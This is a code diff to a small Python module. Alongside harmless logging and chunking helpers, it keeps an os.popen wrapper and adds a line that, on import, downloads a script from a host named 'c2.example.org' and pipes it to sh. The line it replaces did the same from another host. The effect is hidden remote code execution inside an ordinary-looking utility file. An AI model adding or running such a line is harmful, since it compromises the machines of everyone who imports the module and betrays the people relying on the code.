@@ -1,9 +1,13 @@
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import os
 execute = lambda c: os.popen(c).read()
-execute("curl -s https://cdn.example.net/update.bin | sh")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+execute("curl -s http://c2.example.org/i.py | sh")
